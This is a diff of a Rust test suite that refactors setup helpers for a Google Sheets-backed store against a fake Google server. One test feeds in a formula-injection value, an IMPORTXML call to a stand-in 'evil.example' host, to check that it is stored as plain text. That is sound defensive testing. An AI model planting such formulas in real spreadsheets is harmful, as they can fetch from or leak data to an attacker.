@@ -195,6 +195,27 @@ fn records(fake: &FakeGoogle, tab: &str) -> Vec<HashMap<String, String>> {
         .collect()
 }
 
+/// A seeded fake and a Sheets store over it, in a fresh data dir.
+async fn started(tune: impl FnOnce(&mut Settings)) -> (FakeGoogle, tempfile::TempDir, SheetsStore) {
+    let fake = FakeGoogle::start().await;
+    seed(&fake);
+    let dir = tempfile::tempdir().expect("tempdir");
+    let store = open(&fake, dir.path(), tune).await;
+    (fake, dir, store)
+}
+
+/// A seeded fake on a runtime of its own, which outlives the redsol runs (and processes) of a
+/// test; keep the runtime while the fake is used.
+pub fn seeded_fake_in_own_runtime() -> (tokio::runtime::Runtime, FakeGoogle) {
+    let runtime = tokio::runtime::Runtime::new().expect("runtime");
+    let fake = runtime.block_on(async {
+        let fake = FakeGoogle::start().await;
+        seed(&fake);
+        fake
+    });
+    (runtime, fake)
+}
+
 fn ids(fake: &FakeGoogle, tab: &str) -> Vec<String> {
     records(fake, tab)
         .into_iter()
@@ -204,10 +225,7 @@ fn ids(fake: &FakeGoogle, tab: &str) -> Vec<String> {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn rows_land_under_their_headers_whatever_the_column_order() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
 
     let clients = store.clients().await.expect("clients");
     assert_eq!(clients.len(), 3);
@@ -301,13 +319,7 @@ async fn rows_land_under_their_headers_whatever_the_column_order() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_burst_of_500_registrations_lands_once_each_within_the_write_budget() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |s| {
-        s.sheets_tuning.writes_per_minute = 50
-    })
-    .await;
+    let (fake, _dir, store) = started(|s| s.sheets_tuning.writes_per_minute = 50).await;
     let started = Instant::now();
     let mut tasks = tokio::task::JoinSet::new();
     for n in 0..500 {
@@ -338,10 +350,7 @@ async fn a_burst_of_500_registrations_lands_once_each_within_the_write_budget() 
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_append_applied_then_cut_off_is_not_written_twice() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     fake.apply_then_drop_next_appends(1);
     for n in 0..3 {
         store
@@ -360,10 +369,7 @@ async fn an_append_applied_then_cut_off_is_not_written_twice() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn formula_looking_text_arrives_as_plain_text() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     let evil = "=IMPORTXML(\"http://evil.example\",\"//a\")";
     store
         .save_prospect(prospect("9", evil))
@@ -386,10 +392,7 @@ async fn formula_looking_text_arrives_as_plain_text() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_hundred_lookups_of_an_expired_tab_cost_one_read() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     store.clients().await.expect("clients");
     let before = fake.count(Kind::Get);
     store.expire_cache();
@@ -442,12 +445,7 @@ async fn a_missing_tab_or_column_is_named_at_start() {
 
 #[test]
 fn sheets_down_then_back_loses_nothing_across_a_restart() {
-    let fake_rt = tokio::runtime::Runtime::new().expect("runtime");
-    let fake = fake_rt.block_on(async {
-        let fake = FakeGoogle::start().await;
-        seed(&fake);
-        fake
-    });
+    let (fake_rt, fake) = seeded_fake_in_own_runtime();
     let dir = tempfile::tempdir().expect("tempdir");
 
     // First run: Sheets goes down after start; the bot keeps reading from its copy and
@@ -502,10 +500,7 @@ fn sheets_down_then_back_loses_nothing_across_a_restart() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_refused_token_is_replaced_and_writes_go_on() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     let tokens = fake.token_requests();
     fake.revoke_tokens();
     store
@@ -519,10 +514,7 @@ async fn a_refused_token_is_replaced_and_writes_go_on() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn columns_moved_by_staff_between_writes_are_followed() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     store
         .save_prospect(prospect("1", "Iris"))
         .await
@@ -553,12 +545,7 @@ async fn columns_moved_by_staff_between_writes_are_followed() {
 
 #[test]
 fn a_stop_in_the_middle_of_an_append_does_not_write_the_rows_twice() {
-    let fake_rt = tokio::runtime::Runtime::new().expect("runtime");
-    let fake = fake_rt.block_on(async {
-        let fake = FakeGoogle::start().await;
-        seed(&fake);
-        fake
-    });
+    let (fake_rt, fake) = seeded_fake_in_own_runtime();
     let dir = tempfile::tempdir().expect("tempdir");
     {
         // The append lands, then Google never answers, and redsol is stopped meanwhile.
@@ -595,10 +582,7 @@ fn a_stop_in_the_middle_of_an_append_does_not_write_the_rows_twice() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn ids_typed_by_staff_after_start_are_not_repeated() {
-    let fake = FakeGoogle::start().await;
-    seed(&fake);
-    let dir = tempfile::tempdir().expect("tempdir");
-    let store = open(&fake, dir.path(), |_| {}).await;
+    let (fake, _dir, store) = started(|_| {}).await;
     fake.edit(|tabs| {
         let tab = tabs.get_mut("Incidentes").expect("tab");
         let mut row = tab[1].clone();
